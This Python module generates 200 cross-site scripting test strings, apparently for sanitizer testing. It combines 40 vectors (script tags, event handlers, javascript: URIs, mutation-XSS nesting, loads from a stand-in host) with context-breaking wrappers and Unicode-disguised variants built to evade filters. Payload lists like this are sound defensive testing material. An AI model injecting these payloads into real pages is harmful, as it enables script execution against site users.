"""Texts that become markup, or scripts, wherever a page writes them as anything but text: 200 of them."""

from __future__ import annotations

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//example.invalid/x.js></sCrIpT>",
    "<script>alert`1`//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<dialog open oncancel=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<style>@import'//example.invalid/x.css';*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<base href=//example.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<x contenteditable autofocus onfocus=alert(1)>x</x>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "');alert(1);//",
    "__proto__[constructor]=alert(1)",
]
WRAPPED = [
    "{}",
    '"><b>{}',
    "' onmouseover=alert(1) x='</li></button></title></textarea></script>{}",
    "${{alert(1)}}{{{{constructor.constructor('alert(1)')()}}}}<%= alert(1) %>{}",
]


def payloads() -> list[str]:
    """Return 200 different texts of at most 180 characters."""
    wrapped = [wrap.format(one) for wrap in WRAPPED for one in VECTORS]
    return [*wrapped, *map(_in_disguise, VECTORS)]


def _in_disguise(text: str) -> str:
    """Brackets that only look alike, a change of direction, letters without width, a line separator."""
    wide = text.replace("<", "\uff1c", 1).replace(">", "\ufe65", 1)
    return f"\u202e{wide[:2]}\u200b{text}\u2028\u2066{wide[2:]}"[:180]
